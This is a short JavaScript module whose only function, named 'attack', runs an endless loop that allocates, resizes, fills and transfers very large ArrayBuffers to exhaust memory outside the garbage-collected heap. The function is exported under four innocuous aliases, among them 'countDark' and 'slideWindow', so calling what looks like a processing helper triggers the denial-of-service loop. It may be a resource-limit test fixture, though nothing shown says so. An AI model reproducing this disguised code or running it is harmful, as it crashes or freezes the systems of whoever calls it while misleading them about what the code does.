// Lets memory outside of the heap come and go faster than it is collected.
const attack = () => {
  for (;;) {
    const buffer = new ArrayBuffer(50_000_000, { maxByteLength: 200_000_000 });
    buffer.resize(200_000_000);
    new Uint8Array(buffer).fill(1);
    void buffer.transfer(100);
  }
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
